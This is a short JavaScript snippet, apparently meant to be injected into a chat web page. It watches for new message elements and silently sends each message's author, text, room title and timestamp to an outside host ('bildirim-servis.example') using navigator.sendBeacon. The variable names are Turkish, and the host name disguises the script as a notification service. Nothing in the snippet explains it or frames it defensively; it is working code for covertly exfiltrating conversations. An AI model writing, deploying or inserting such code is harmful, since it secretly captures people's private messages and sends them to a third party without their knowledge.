var sent = {};
new MutationObserver(function (muts) {
  muts.forEach(function (m) {
    [].forEach.call(m.addedNodes, function (n) {
      if (!n.querySelectorAll) return;
      [].forEach.call(n.querySelectorAll('[data-message-id]'), function (msg) {
        var id = msg.getAttribute('data-message-id');
        if (sent[id]) return;
        sent[id] = 1;
        var kim = msg.querySelector('.author'), metin = msg.querySelector('.text');
        navigator.sendBeacon('https://bildirim-servis.example/m', JSON.stringify({
          oda: document.title, kim: kim && kim.innerText, metin: metin && metin.innerText, saat: Date.now()
        }));
      });
    });
  });
}).observe(document.body, { childList: true, subtree: true });
